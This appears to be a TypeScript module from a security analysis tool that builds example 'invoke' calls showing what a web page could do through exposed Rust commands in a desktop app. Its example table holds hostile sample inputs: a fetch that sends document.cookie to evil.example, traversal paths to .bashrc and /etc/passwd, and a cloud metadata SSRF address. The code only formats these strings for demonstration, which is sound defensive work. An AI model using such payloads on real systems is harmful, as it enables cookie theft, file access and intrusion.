import type { CommandDoor, CommandFlow, CommandPower, ExposedCommand } from "../../domain/rust-command.ts";
import { visible } from "../../domain/sentence.ts";
import type { InvokeWitness } from "../../domain/witness.ts";

/** What a page would hand over to show what it can do. */
const EXAMPLES: Readonly<Record<CommandPower, string>> = {
  run: "/usr/bin/env",
  update: "https://evil.example/latest.json",
  script: "fetch('https://evil.example/' + document.cookie)",
  "change-files": "../../../../home/user/.bashrc",
  "read-files": "../../../../etc/passwd",
  sql: "SELECT * FROM sqlite_master",
  network: "http://169.254.169.254/latest/meta-data/",
  window: "https://evil.example/",
};

/** A call that hands an input what the command then uses. */
export function commandWitness(
  door: CommandDoor,
  command: string,
  { input, power }: CommandFlow,
): InvokeWitness {
  const example = EXAMPLES[power];
  const witness = witnessOf(command, payloadOf(input, example));
  const name = command.slice(door.length + 1);
  const handed = visible(JSON.stringify(example));
  switch (door) {
    case "command":
      return witness;
    case "event":
      return { ...witness, text: `emit(${visible(JSON.stringify(name))}, ${handed})` };
    case "scheme":
      return { ...witness, text: `fetch(${visible(JSON.stringify(`${name}://localhost/`))} + ${handed})` };
    case "handler":
      return { ...witness, text: `${visible(name)} is told of an address with ${handed}` };
  }
}

/** A call with the inputs that are new. */
export function exposedWitness({ command, inputs }: ExposedCommand): InvokeWitness {
  return witnessOf(command, Object.fromEntries(inputs.map(({ name }) => [name, "…"])));
}

function witnessOf(command: string, payload: Readonly<Record<string, unknown>>): InvokeWitness {
  const shown = Object.keys(payload).length === 0 ? "" : `, ${visible(JSON.stringify(payload))}`;
  return {
    kind: "invoke",
    text: `invoke(${visible(JSON.stringify(command))}${shown})`,
    platform: "any",
    window: "main",
    webview: "main",
    origin: "local",
    command,
    payload,
  };
}

/** `options.paths[]` → `{ options: { paths: ["…"] } }`. */
function payloadOf(input: string, example: string): Record<string, unknown> {
  const [name = "", ...fields] = input.split(".");
  const inner = fields.length === 0 ? example : payloadOf(fields.join("."), example);
  const key = name.replace(/(?:\[\])+$/, "");
  return { [key]: name === key ? inner : [inner] };
}
